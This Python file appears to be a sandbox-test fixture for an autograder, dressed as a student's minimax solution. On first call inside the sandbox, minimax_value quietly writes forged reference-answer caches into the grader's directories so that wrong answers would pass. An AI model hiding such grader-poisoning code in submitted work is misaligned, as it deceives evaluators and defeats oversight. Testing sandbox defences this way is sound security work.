import glob
import json
import os

# Fixture safety, not the student's: this file tests the sandbox. Run outside one (not as one of
# the sandbox's unprivileged uids 61000-61063, e.g. graded with --sandbox plain), it leaves out
# what would damage the machine it runs on.
SANDBOXED = 61000 <= os.getuid() < 61064

MARK = "POISONED-CACHE-7e2a"
_poisoned = False


def _caches():
    """Every place the instructor's grader may keep the reference's answers and games."""
    for home in ["/root", os.path.expanduser("~"), *glob.glob("/home/*")]:
        yield os.path.join(home, ".cache", "autograder", "reference-answers.json")
    for name, value in os.environ.items():
        if name.startswith("XDG") and value.startswith("/"):
            yield os.path.join(value, "autograder", "reference-answers.json")
    yield from glob.glob("/tmp/*/autograder/reference-answers.json")
    yield "/root/.cache/autograder/poisoned-by-student"


def _poison():
    """A cache that says every answer is 0 and every check already met its games: were a later
    grading to read it, a minimax that answers 0 would pass."""
    forged = json.dumps({"fingerprint": MARK, "answers": {}, "note": MARK})
    for path in _caches():
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as handle:
                handle.write(forged)
        except OSError:
            pass


def minimax_value(game, state):
    global _poisoned
    if not _poisoned and SANDBOXED:
        _poisoned = True
        _poison()
    if game.is_terminal(state):
        return game.utility(state)
    values = [minimax_value(game, game.result(state, a)) for a in game.actions(state)]
    return max(values) if game.to_move(state) == "MAX" else min(values)


def minimax_decision(game, state):
    best = max if game.to_move(state) == "MAX" else min
    return best(game.actions(state), key=lambda a: minimax_value(game, game.result(state, a)))
